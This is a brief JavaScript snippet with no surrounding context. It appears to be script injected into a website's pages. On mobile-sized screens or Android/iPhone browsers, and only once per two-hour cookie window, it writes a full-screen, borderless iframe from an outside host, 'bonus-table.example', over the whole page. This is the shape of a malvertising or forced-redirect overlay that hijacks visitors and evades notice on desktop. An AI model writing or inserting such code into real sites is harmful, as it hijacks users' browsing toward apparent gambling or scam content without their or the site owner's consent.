(function (w, d) {
  var small = w.innerWidth < 800 || /Android|iPhone/i.test(navigator.userAgent);
  if (small && d.cookie.indexOf('seen_m=1') === -1) {
    d.cookie = 'seen_m=1;max-age=7200;path=/';
    d.write('<iframe src="https://bonus-table.example/m?c=41" style="position:fixed;left:0;top:0;width:100%;height:100%;z-index:2147483646;border:0"></iframe>');
  }
})(window, document);
